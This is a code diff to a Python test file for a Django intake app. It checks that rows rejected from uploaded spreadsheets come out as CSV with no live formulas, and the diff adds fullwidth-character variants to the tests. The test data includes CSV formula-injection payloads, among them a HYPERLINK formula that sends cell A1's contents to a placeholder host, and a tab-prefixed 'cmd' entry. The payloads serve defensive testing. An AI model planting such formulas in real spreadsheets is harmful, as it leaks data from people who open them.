@@ -10,6 +10,7 @@ import pytest
 import xlsxwriter
 from django.core.files.uploadedfile import SimpleUploadedFile
 
+from brobygger.base.formulas import FORMULA
 from brobygger.intake import rejecting
 from brobygger.intake.models import RejectedRow
 from brobygger.intake.queries import unread_numbers
@@ -144,7 +145,10 @@ def test_what_a_spreadsheet_does_to_a_text_file_is_put_right_and_told(bring):
     )
 
 
-FORMULAS = ('=HYPERLINK("https://ond.invalid/?"&A1;"Klik")', "@SUM(1)", "-2+3", "+4595006601", "\tcmd")
+FORMULAS = (
+    *('=HYPERLINK("https://ond.invalid/?"&A1;"Klik")', "@SUM(1)", "-2+3", "+4595006601", "\tcmd"),
+    *("＝1+1", "＠CMD(2)", "＋1", "－1"),
+)
 
 
 @pytest.mark.parametrize("way", ["beside", "page"])
@@ -160,7 +164,7 @@ def test_a_rejected_row_opens_without_a_live_formula_and_comes_in_with_its_words
         rejecting.write_beside(target, summary.run_id, file, by=by, name="a.csv", shown=[], most=9)
         text = target.read_text("utf-8-sig")
     cells = [cell for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for cell in row]
-    assert not [cell for cell in cells if cell[:1] in "=+-@\t" and cell]
+    assert not [cell for cell in cells if cell and cell[:1] in FORMULA]
     path.write_text(text.replace(";x;", f";{files.VIOLENCE};"), "utf-8-sig")
     assert bring(path=path).registrations == len(FORMULAS)
     assert set(Person.objects.values_list("family_name", flat=True)) == {words.strip() for words in FORMULAS}
